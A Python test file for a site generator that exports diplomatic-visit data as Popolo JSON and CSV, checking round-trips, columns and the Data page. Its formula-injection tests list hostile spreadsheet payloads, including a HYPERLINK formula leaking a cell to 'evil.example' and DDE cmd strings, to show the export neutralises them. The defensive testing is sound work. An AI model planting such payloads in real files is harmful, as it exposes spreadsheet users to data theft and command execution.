"""The data downloads: Popolo JSON that reads back into the same entities, CSV per kind, and the
Data page that links to them and documents every column."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.data.check import check
from generator.data.dataset import Dataset
from generator.data.schema import KINDS, MODELS
from generator.downloads.cells import FORMULA_SIGNS, inert_cell, runs_as_formula
from generator.downloads.datapage import render_data_page
from generator.downloads.export import data_files
from generator.downloads.popolo import MULTILINGUAL, popolo, popolo_json
from generator.downloads.popolo_read import read_popolo
from generator.downloads.tables import TABLES, Column, Table, table_csv, table_values
from tests.conftest import SHIPPED_DATA

SITE_URL = "https://sijill.example.org/"


def _checked(data_dir: Path) -> Dataset:
    result = check(data_dir)
    assert result.ok and result.dataset is not None, [str(d) for d in result.diagnostics]
    return result.dataset


def _assert_same_entities(read: Dataset, original: Dataset) -> None:
    for kind in KINDS:
        assert list(read.of_kind(kind)) == list(original.of_kind(kind)), kind
        for entity_id, entity in original.of_kind(kind).items():
            assert read.of_kind(kind)[entity_id] == entity, f"{kind}/{entity_id}"


def test_the_json_reads_back_as_the_data() -> None:
    dataset = _checked(SHIPPED_DATA)
    document = json.loads(popolo_json(dataset, SITE_URL))
    _assert_same_entities(read_popolo(document, dataset.root), dataset)


# Every optional field the shipped data leaves out, so that the round trip covers them too.
EXTRA_FILES = {
    "organizations/parent-body.yml": {
        "id": "parent-body",
        "former_ids": ["old-parent-body"],
        "name": {"en": "Parent & <Body>", "ar": "الهيئة الأم"},
        "abbreviation": {"en": "PB"},
        "classification": "international",
        "links": [{"url": "https://example.org/pb", "note": {"ar": "الموقع"}}],
    },
    "organizations/child-body.yml": {
        "id": "child-body",
        "name": {"en": "Child body", "ar": "الهيئة الفرعية"},
        "classification": "council",
        "country": "PK",
        "parent": "parent-body",
        "sources": ["cited-source"],
    },
    "sources/cited-source.yml": {
        "id": "cited-source",
        "kind": "statement",
        "title": {"ar": "بيان"},
        "publisher": "parent-body",
        "language": "ar",
        "published": 2024,
        "url": "https://example.org/statement",
        "cites": ["irna-report-2025-11-25"],
        "note": {"en": 'A note; with "quotes", commas\nand a new line.'},
    },
    "people/test-person.yml": {
        "id": "test-person",
        "former_ids": ["old-test-person"],
        "name": {"en": "Test, Person", "ar": "شخص الاختبار"},
        "other_names": [
            {"name": "شخص", "lang": "ar", "note": MULTILINGUAL},
            {"name": "T. Person", "lang": "en", "note": "short form"},
        ],
        "country": "PK",
        "summary": {"ar": 'ملخص، "فقط"\nبالعربية'},
        "summary_quoted_from": "cited-source",
        "memberships": [
            {
                "role": {"en": "Member", "ar": "عضو"},
                "start_date": "2020-01",
                "end_date": "2021",
                "sources": ["cited-source"],
            },
            {
                "role": {"en": "Chair", "ar": "رئيس"},
                "organization": "child-body",
                "sources": ["cited-source"],
            },
        ],
        "identifiers": [{"scheme": "wikidata", "identifier": "Q1"}],
        "sources": ["cited-source"],
    },
    "visits/2024-test-trip.yml": {
        "id": "2024-test-trip",
        "classification": "working",
        "title": {"en": "A titled trip", "ar": "رحلة معنونة"},
        "visitors": ["test-person"],
        "from_country": "PK",
        "to_country": "IR",
        "start_date": "2024-03-01",
        "end_date": "2024-03-04",
        "summary": {"en": "Only in English."},
        "summary_quoted_from": "cited-source",
        "outcomes": [
            {
                "kind": "target",
                "summary": {"en": "Tonnes", "ar": "أطنان"},
                "count": 3,
                "count_is_minimum": True,
                "amount": {"value": 2.5, "unit": {"en": "tonnes", "ar": "طن"}, "period": "month"},
                "sources": ["cited-source"],
            }
        ],
        "sources": ["cited-source"],
    },
    "visits/2024-test-leg.yml": {
        "id": "2024-test-leg",
        "classification": "private",
        "visitors": [
            {"person": "test-person", "role": {"en": "Special Envoy", "ar": "المبعوث الخاص"}},
            {"name": {"en": "Lamberto Dini"}, "role": {"ar": "وزير الخارجية"}, "country": "IT"},
        ],
        "hosts": [
            "ali-larijani",
            {"name": {"en": "Romano Prodi", "ar": "رومانو برودي"}, "role": {"en": "Guest"}},
        ],
        "meetings": [
            {
                "participants": [
                    {"person": "test-person", "role": {"en": "Envoy"}},
                    {"name": {"ar": "مسؤول"}, "role": {"en": "Official", "ar": "مسؤول"}},
                    "ali-larijani",
                ],
                "date": "2024-03",
                "sources": ["cited-source"],
            }
        ],
        "from_country": "PK",
        "to_country": "IR",
        "start_date": "2024-03",
        "summary": {"ar": "محطة"},
        "parent": "2024-test-trip",
        "sources": ["cited-source"],
    },
}


def write_extra_files(data_dir: Path) -> None:
    """EXTRA_FILES written into a copy of the data."""
    for path, data in EXTRA_FILES.items():
        (data_dir / path).write_text(
            yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8"
        )


def test_every_optional_field_reads_back(data_copy: Path) -> None:
    write_extra_files(data_copy)
    dataset = _checked(data_copy)
    document = json.loads(popolo_json(dataset, SITE_URL))
    _assert_same_entities(read_popolo(document, dataset.root), dataset)
    # A data other name that looks like a translation stays an other name.
    person = next(p for p in document["persons"] if p["id"] == "test-person")
    assert person["other_names"][:2] == [
        {"name": "شخص الاختبار", "lang": "ar", "note": MULTILINGUAL},
        {"name": "شخص", "lang": "ar", "note": MULTILINGUAL},
    ]
    # A summary quoted word for word names its source, for a person and for an event.
    trip = next(e for e in document["events"] if e["id"] == "2024-test-trip")
    assert person["sijill:summary_quoted_from"] == trip["sijill:summary_quoted_from"]
    assert trip["sijill:summary_quoted_from"] == "cited-source"
    entities = {**dataset.people, **dataset.visits}
    for item in document["persons"] + document["events"]:
        quoted_from = entities[item["id"]].summary_quoted_from
        assert item.get("sijill:summary_quoted_from") == quoted_from, item["id"]
    files = data_files(dataset, SITE_URL)
    # A line end inside a value is quoted, not a new row.
    people = _rows(files["data/people.csv"])
    assert len(people) == len(dataset.people)
    test_person = next(row for row in people if row["id"] == "test-person")
    assert test_person["summary__ar"] == 'ملخص، "فقط"\nبالعربية'
    assert test_person["summary__en"] == ""
    assert test_person["summary_quoted_from"] == "cited-source"
    visits = {row["id"]: row for row in _rows(files["data/visits.csv"])}
    assert visits["2024-test-trip"]["summary_quoted_from"] == "cited-source"
    assert visits["2024-test-leg"]["summary_quoted_from"] == ""
    rows = _rows(files["data/memberships.csv"])
    assert [row["organization_id"] for row in rows if row["person_id"] == "test-person"] == [
        "",
        "child-body",
    ]
    _assert_attendees_exported(document, files)


def _assert_attendees_exported(document: dict[str, Any], files: dict[str, str]) -> None:
    """Attendees with the title held then, and people named only, in the JSON and the CSVs."""
    leg = next(e for e in document["events"] if e["id"] == "2024-test-leg")
    assert leg["attendees"] == [
        {
            "person_id": "test-person",
            "role": "visitor",
            "sijill:title": {"en": "Special Envoy", "ar": "المبعوث الخاص"},
        },
        {
            "name": "Lamberto Dini",
            "role": "visitor",
            "sijill:name": {"en": "Lamberto Dini"},
            "sijill:title": {"ar": "وزير الخارجية"},
            "sijill:country": "IT",
        },
        {"person_id": "ali-larijani", "role": "host"},
        {
            "name": "Romano Prodi",
            "role": "host",
            "sijill:name": {"en": "Romano Prodi", "ar": "رومانو برودي"},
            "sijill:title": {"en": "Guest"},
        },
    ]
    # A participant who is only a catalogued person stays the plain id of the data.
    assert leg["sijill:meetings"][0]["participants"] == [
        {"person": "test-person", "role": {"en": "Envoy"}},
        {"name": {"ar": "مسؤول"}, "role": {"en": "Official", "ar": "مسؤول"}},
        "ali-larijani",
    ]
    visit = next(row for row in _rows(files["data/visits.csv"]) if row["id"] == "2024-test-leg")
    assert (visit["visitors"], visit["hosts"]) == ("test-person", "ali-larijani")
    assert visit["visitor_names__en"] == "Special Envoy Test, Person; Lamberto Dini"
    assert visit["visitor_names__ar"] == "المبعوث الخاص شخص الاختبار; وزير الخارجية"
    assert visit["host_names__en"] == "Ali Larijani; Guest Romano Prodi"
    rows = [row for row in _rows(files["data/attendees.csv"]) if row["visit_id"] == "2024-test-leg"]
    assert [
        (r["side"], r["number"], r["person_id"], r["name__en"], r["role__ar"], r["country"])
        for r in rows
    ] == [
        ("visitor", "1", "test-person", "", "المبعوث الخاص", ""),
        ("visitor", "2", "", "Lamberto Dini", "وزير الخارجية", "IT"),
        ("host", "1", "ali-larijani", "", "", ""),
        ("host", "2", "", "Romano Prodi", "", ""),
    ]


def test_an_attendee_named_the_plain_popolo_way_reads_back() -> None:
    dataset = _checked(SHIPPED_DATA)
    document = popolo(dataset, SITE_URL)
    event = next(e for e in document["events"] if e["id"] == "2025-11-larijani-pakistan")
    event["attendees"].append({"name": "Romano Prodi", "role": "host"})
    hosts = read_popolo(document, dataset.root).visits[event["id"]].hosts
    assert [(h.person, h.name and h.name.get("en")) for h in hosts] == [
        ("mohammad-ishaq-dar", None),
        (None, "Romano Prodi"),
    ]


def test_popolo_shape() -> None:
    dataset = _checked(SHIPPED_DATA)
    document = popolo(dataset, SITE_URL)
    assert sorted(document) == [
        "events",
        "memberships",
        "meta",
        "organizations",
        "persons",
        "sijill:sources",
    ]
    larijani = document["persons"][0]
    assert larijani["id"] == "ali-larijani" and larijani["name"] == "Ali Larijani"
    assert larijani["other_names"][0] == {
        "name": "علي لاريجاني",
        "lang": "ar",
        "note": MULTILINGUAL,
    }
    assert larijani["sijill:name"] == {"en": "Ali Larijani", "ar": "علي لاريجاني"}
    assert larijani["national_identity"] == "Iran"
    membership = next(m for m in document["memberships"] if m["person_id"] == "ali-larijani")
    assert membership["organization_id"] == "supreme-national-security-council"
    assert membership["start_date"] == "2025-08"
    visit = next(e for e in document["events"] if e["id"] == "2025-11-larijani-pakistan")
    assert visit["attendees"] == [
        {"person_id": "ali-larijani", "role": "visitor"},
        {
            "person_id": "mohammad-ishaq-dar",
            "role": "host",
            "sijill:title": {
                "en": "Deputy Prime Minister and Foreign Minister",
                "ar": "نائب رئيس الوزراء ووزير الخارجية",
            },
        },
    ]
    assert visit["start_date"] == "2025-11-25"
    assert visit["location"] == "Islamabad, Nur Khan Air Base"
    assert len(visit["sijill:quotes"]) == 5 and visit["sijill:outcomes"]
    month = next(e for e in document["events"] if e["id"] == "2025-10-ghalibaf-pakistan")
    assert month["start_date"] == "2025-10"
    offline = next(s for s in visit["sources"] if s["sijill:source"] == "irna-report-2025-11-25")
    assert offline["url"] == f"{SITE_URL}en/sources/irna-report-2025-11-25/"


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_csv_files_have_a_column_per_language() -> None:
    dataset = _checked(SHIPPED_DATA)
    files = data_files(dataset, SITE_URL)
    assert sorted(files) == [
        "data/attendees.csv",
        "data/memberships.csv",
        "data/people.csv",
        "data/quotes.csv",
        "data/sijill.json",
        "data/visits.csv",
    ]
    people = _rows(files["data/people.csv"])
    assert [row["id"] for row in people] == sorted(dataset.people)
    assert people[0]["name__en"] == "Ali Larijani"
    assert people[0]["name__ar"] == "علي لاريجاني"
    visits = _rows(files["data/visits.csv"])
    larijani = next(row for row in visits if row["id"] == "2025-11-larijani-pakistan")
    assert larijani["start_date"] == "2025-11-25" and larijani["end_date"] == ""
    assert larijani["hosts"] == "mohammad-ishaq-dar"
    title = "Deputy Prime Minister and Foreign Minister"
    assert larijani["host_names__en"] == f"{title} Mohammad Ishaq Dar"
    assert larijani["places__ar"] == "إسلام آباد; مطار نور خان العسكري"
    quotes = _rows(files["data/quotes.csv"])
    assert len(quotes) == sum(len(v.quotes) for v in dataset.visits.values())
    first = quotes[0]
    assert first["lang"] == "ar" and first["translation__ar"] == first["text"]
    assert files["data/people.csv"].count("\r\n") == len(people) + 1  # RFC 4180 line ends


@pytest.mark.slow
def test_the_site_offers_the_files_and_documents_every_column(shipped_site: Path) -> None:
    dataset = _checked(SHIPPED_DATA)
    expected = data_files(dataset, SITE_URL)
    for lang in ("en", "ar"):
        for path, text in expected.items():
            assert (shipped_site / lang / path).read_bytes() == text.encode("utf-8"), path
        page = (shipped_site / lang / "data" / "index.html").read_text(encoding="utf-8")
        assert 'href="sijill.json"' in page
        for table in TABLES:
            assert f'href="{table.file}"' in page
            for column in table.columns:
                for header in column.headers():
                    assert f"<code>{header}</code>" in page, (lang, table.name, header)
    arabic = (shipped_site / "ar" / "data" / "index.html").read_text(encoding="utf-8")
    assert "<h1" in arabic and "البيانات" in arabic


# --- formulas in the CSV files ----------------------------------------------------------------

# What a contributor could put at the start of any text to have a spreadsheet run it. A tab, a
# carriage return or a bidi mark does not pass the check; `inert_cell` is tested on them below.
FORMULA_PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\n=1+1",  # after a line end
    "\uff1d1+1",  # ＝ full width
    "\uff0b1+1",  # ＋
    "\uff0d1+1",  # －
    "\uff20SUM(1)",  # ＠
    " \u00a0=1+1",  # after spaces
    "\u200d=1+1",  # after a zero-width joiner (the check refuses other invisible characters)
    "'=1+1",  # an apostrophe of the data's own
)

# The columns whose values the build writes or the schema constrains to ids, codes, dates and
# numbers: no text from a contributor reaches them. Every other column must carry the payload in
# the test below, so a new free-text column is tested as soon as it exists.
OUR_COLUMNS = {
    "id",
    "country",
    "country_name__en",
    "country_name__ar",
    "classification",
    "start_date",
    "end_date",
    "from_country",
    "to_country",
    "visitors",
    "hosts",
    "parent",
    "sources",
    "summary_quoted_from",
    "person_id",
    "side",
    "organization_id",
    "visit_id",
    "number",
    "speaker_id",
    "lang",
    "visit_start_date",
    "current",
    "cameo_visitors",
    "cameo_hosts",
}


def _resolve(schema: dict[str, Any], node: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        node = schema["$defs"][node["$ref"].rsplit("/", 1)[1]]
    return node


def _constrained(node: dict[str, Any]) -> bool:
    """An id, reference, code, date, URL or choice: not text a contributor writes freely. A
    list of references may hold maps too (attendees), whose texts are free."""
    if "x-references" in node and node.get("type") != "array":
        return True
    return any(key in node for key in ("pattern", "enum", "const", "format"))


def _with_payload(schema: dict[str, Any], node: dict[str, Any], value: Any, payload: str) -> Any:
    """`value` with `payload` put in front of every free text in it, found by walking the
    JSON Schema of the format, so that no field needs naming here."""
    node = _resolve(schema, node)
    if _constrained(node):
        return value
    if "anyOf" in node:
        for branch in node["anyOf"]:
            branch = _resolve(schema, branch)
            types = branch.get("type", [])
            types = types if isinstance(types, list) else [types]
            python = {"string": str, "object": dict, "array": list}
            if any(isinstance(value, python[name]) for name in types if name in python):
                return _with_payload(schema, branch, value, payload)
        return value
    if isinstance(value, str) and node.get("type") == "string":
        return payload + value
    if isinstance(value, dict) and "properties" in node:
        return {
            key: _with_payload(schema, node["properties"][key], item, payload)
            for key, item in value.items()
        }
    if isinstance(value, list) and "items" in node:
        ids = "x-references" in node  # ids, or maps (attendees) with texts of their own
        return [
            item
            if ids and not isinstance(item, dict)
            else _with_payload(schema, node["items"], item, payload)
            for item in value
        ]
    return value


def _payload_everywhere(data_dir: Path, payload: str) -> None:
    """Every file of the data, and the optional fields of `EXTRA_FILES`, with `payload` in
    front of every free text."""
    for name, data in EXTRA_FILES.items():
        (data_dir / name).write_text(yaml.safe_dump(data), encoding="utf-8")
    for kind in KINDS:
        schema = MODELS[kind].model_json_schema()
        for path in sorted((data_dir / kind).glob("*.yml")):
            data = yaml.safe_load(path.read_text(encoding="utf-8"))
            changed = _with_payload(schema, schema, data, payload)
            path.write_text(yaml.safe_dump(changed, allow_unicode=True), encoding="utf-8")


_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def _a_spreadsheet_would_run(cell: str) -> bool:
    """An oracle written apart from the code under test, for the payloads above."""
    if cell.startswith("'") or _PLAIN_NUMBER.fullmatch(cell):
        return False
    first = cell.lstrip(" \t\r\n\u00a0\u200d\u200e\u200f")[:1]
    return cell[:1] in ("\t", "\r") or (first != "" and first in _SIGNS)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS, ids=ascii)
def test_no_csv_cell_from_the_data_runs_as_a_formula(data_copy: Path, payload: str) -> None:
    _payload_everywhere(data_copy, payload)
    dataset = _checked(data_copy)
    files = data_files(dataset, SITE_URL)
    for table in TABLES:
        values = list(table_values(table, dataset))
        rows = _csv_rows(files[f"data/{table.file}"])
        assert [len(row) for row in rows] == [len(row) for row in values], table.name
        assert len(rows) > 1, table.name
        headers = values[0]
        carried: set[str] = set()
        for row, raw_row in zip(rows, values, strict=True):
            for header, cell, raw in zip(headers, row, raw_row, strict=True):
                where = (table.name, header, raw)
                if raw.startswith(payload):
                    carried.add(header)
                    assert cell == "'" + raw, where
                else:
                    assert cell in (raw, "'" + raw), where
                assert not _a_spreadsheet_would_run(cell), where
        # Every column of free text got the payload; none of ours did.
        assert carried == set(headers) - OUR_COLUMNS, table.name
    # The JSON has the true values: they read back as the data, and none has the apostrophe.
    document = json.loads(files["data/sijill.json"])
    _assert_same_entities(read_popolo(document, dataset.root), dataset)
    strings = list(_strings(document))
    assert any(text.startswith(payload) for text in strings)
    assert not any(text.startswith("'" + payload) for text in strings)


def test_a_new_column_is_covered_without_asking() -> None:
    column = Column("note", lambda item, lang: "=1+1", {"en": "", "ar": ""}, per_language=True)
    table = Table("new", lambda context: [object()], (column,), {"en": "", "ar": ""})
    assert _csv_rows(table_csv(table, _checked(SHIPPED_DATA))) == [
        ["note__en", "note__ar"],
        ["'=1+1", "'=1+1"],
    ]


def test_which_cells_get_an_apostrophe() -> None:
    for cell in ("=1", "+1", "-1+1", "@A1", "\tx", "\rx", " =1", "\n=1", "\u00a0@x", "-"):
        assert inert_cell(cell) == "'" + cell, ascii(cell)
    for cell in ("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "\ufe661", "\u200f=1", "\ufeff=1"):
        assert inert_cell(cell) == "'" + cell, ascii(cell)
    # Plain numbers, dates, ids and ordinary text are left as they are.
    ordinary = ("-3", "-2.5", "3", "2025-11-25", "Q355915", "a-b", "Ali", "علي", "", " ")
    for cell in (*ordinary, "\u22121"):  # U+2212 MINUS SIGN is not a formula sign
        assert inert_cell(cell) == cell, ascii(cell)
    # Apostrophes of the data's own: one more only where the rest would run.
    assert inert_cell("'=1") == "''=1"
    assert inert_cell("'Ali") == "'Ali"
    assert inert_cell("'-3") == "'-3"


def _undo(cell: str) -> str:
    """What the Data page tells readers: remove the first `'` of a cell that had one added."""
    return cell[1:] if cell.startswith("'") and runs_as_formula(cell[1:]) else cell


def test_the_apostrophe_can_be_undone() -> None:
    texts = ["", "'", "''", "=", "'=", "''=1", "-3", "'-3", "x", "'x", "' =1", "\t", "'\t"]
    texts += [prefix + payload for prefix in ("", "'", "''") for payload in FORMULA_PAYLOADS]
    for text in texts:
        assert _undo(inert_cell(text)) == text, ascii(text)


def test_the_data_page_says_which_cells_get_an_apostrophe() -> None:
    dataset = _checked(SHIPPED_DATA)
    for lang in ("en", "ar"):
        page = render_data_page(dataset, lang)
        for sign in [*FORMULA_SIGNS, "'", "-3", "\uff1d"]:
            assert f"`{sign}`" in page, (lang, sign)
    assert "full-width" in render_data_page(dataset, "en")
    assert "كاملة العرض" in render_data_page(dataset, "ar")
